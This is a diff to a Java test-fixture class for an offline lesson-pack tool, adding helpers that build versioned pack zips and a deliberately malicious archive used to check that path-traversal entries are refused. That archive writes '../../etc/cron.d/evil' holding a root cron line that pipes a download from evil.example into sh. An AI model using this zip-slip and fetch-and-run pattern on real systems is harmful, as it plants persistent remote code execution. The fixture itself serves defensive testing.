@@ -35,6 +35,46 @@ final class AdminFixtures {
         return PackFixtures.build(folder, id, title, dir.resolve(id + ".zip"));
     }
 
+    /**
+     * A small pack zip of a given version, with a 120 KB file so that sizes and progress mean
+     * something; backdated, as a pack copied onto a stick a while ago (see {@link #settled}).
+     */
+    static Path versionedPack(Path sources, String id, String title, long version, Path zip) throws IOException {
+        Path site = sources.resolve(id + "-" + version);
+        PackFixtures.write(site, "index.html", "<!doctype html><title>" + id + "</title><p>" + id + " version "
+                + version + "</p>");
+        PackFixtures.write(site, "lessons/one.md", "# Lesson one of " + id + "\n\nWords.\n");
+        PackFixtures.writeRandom(site, "media/clip.bin", 120_000, id.hashCode() + version);
+        Files.createDirectories(zip.toAbsolutePath().getParent());
+        PackFixtures.build(site, new org.offlinecommons.pack.PackBuilder.Options(id, title, version, "en", null, null,
+                null, null, null), zip);
+        return settled(zip);
+    }
+
+    /**
+     * Backdated by five minutes: the drive scanner reads it at once instead of taking it for a
+     * copy still in progress.
+     */
+    static Path settled(Path file) throws IOException {
+        Files.setLastModifiedTime(file, java.nio.file.attribute.FileTime.from(java.time.Instant.now()
+                .minus(Duration.ofMinutes(5))));
+        return file;
+    }
+
+    /** A zip with an entry that climbs out of its folder: refused, naming the file and the entry. */
+    static Path evilZip(Path file) throws IOException {
+        try (org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream zip =
+                     new org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream(file)) {
+            zip.putArchiveEntry(new org.apache.commons.compress.archivers.zip.ZipArchiveEntry("pack.json"));
+            zip.write("{}".getBytes(StandardCharsets.UTF_8));
+            zip.closeArchiveEntry();
+            zip.putArchiveEntry(new org.apache.commons.compress.archivers.zip.ZipArchiveEntry("../../etc/cron.d/evil"));
+            zip.write("* * * * * root curl evil.example | sh".getBytes(StandardCharsets.UTF_8));
+            zip.closeArchiveEntry();
+        }
+        return settled(file);
+    }
+
     static List<Path> filesIn(Path folder) throws IOException {
         if (!Files.isDirectory(folder)) {
             return List.of();
